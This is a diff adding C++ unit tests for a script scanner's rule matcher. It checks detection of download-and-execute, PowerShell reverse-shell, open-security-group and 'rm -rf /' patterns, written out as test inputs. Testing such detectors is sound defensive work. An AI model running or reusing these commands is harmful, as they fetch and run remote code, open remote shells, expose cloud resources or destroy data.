@@ -75,6 +75,50 @@ TEST(RuleMatcher, ARuleThatSpansLinesMatchesAcrossBlocks) {
   EXPECT_EQ(positions(findings, "py_resource_exhaustion").size(), 1u) << describe(findings);
 }
 
+TEST(RuleMatcher, ARuleThatSpansLinesNeedsEachOfItsLiteralsSomewhere) {
+  // py_download_execute is searched on the whole text only when the set pass saw a download call
+  // and an exec( or eval( in some block, in whatever case: either alone is clean.
+  const std::string download = "import urllib.request\ncode = urllib.request.urlopen(URL).read()\n";
+  const std::string run = "exec(code)\n";
+  const std::string middle = "print(\"fetched\")\n";
+  std::string padding;
+  for (std::size_t i = 0; i < 80; ++i)
+    padding += "print(\"line " + std::to_string(i) + "\")\n";
+  const auto both = scan(download + padding + run, Language::python);
+  EXPECT_EQ(positions(both, "py_download_execute"), (Positions{{2, 8}})) << describe(both);
+  EXPECT_EQ(positions(scan(download + padding + middle, Language::python), "py_download_execute"),
+            Positions{});
+  EXPECT_EQ(positions(scan(padding + run + download, Language::python), "py_download_execute"),
+            Positions{});
+  // PowerShell is read case-insensitively: the literals are found whatever their case.
+  const std::string shell = "$c = New-Object NET.SOCKETS.TcpClient('10.0.0.1', 4444)\n" + padding +
+                            "$s = $c.GetStream()\n" + padding + "IEX $command\n";
+  const auto ps = scan(shell, Language::powershell);
+  EXPECT_EQ(positions(ps, "ps_tcp_shell").size(), 1u) << describe(ps);
+}
+
+TEST(RuleMatcher, ABracketThatStartsWithAColonKeepsARuleToItsLine) {
+  // `[:=]` is not a POSIX class: py_open_security_group is matched block by block, on its line.
+  const std::string script =
+      "import boto3\n" + std::string(3000, '#') + "\nrule = {\"CidrIp\": \"0.0.0.0/0\"}\n";
+  const auto findings = scan(script, Language::python);
+  EXPECT_EQ(positions(findings, "py_open_security_group"), (Positions{{3, 9}}))
+      << describe(findings);
+}
+
+TEST(RuleMatcher, ARepeatedPayloadIsReportedOnEachLineThatCarriesIt) {
+  // The second and third scans of the same code reuse the first one's findings at their own
+  // origins, also when the payload holds a payload of its own.
+  const std::string script =
+      "os.system(\"rm -rf /\")\nprint(1)\nos.system(\"rm -rf /\")\n"
+      "os.system(\"bash -c 'rm -rf /'\")\nos.system(\"rm -rf /\")\n"
+      "os.system(\"bash -c 'rm -rf /'\")\n";
+  const auto findings = scan(script, Language::python);
+  EXPECT_EQ(positions(findings, "rm_rf_root"),
+            (Positions{{1, 11}, {3, 11}, {4, 11}, {5, 11}, {6, 11}}))
+      << describe(findings);
+}
+
 TEST(RuleMatcher, APipelineRuleSpanningABlockBoundaryIsFound) {
   // The pipeline's continuation line stays in the block of its first command.
   for (std::size_t lines : {30u, 31u, 32u, 33u, 34u}) {
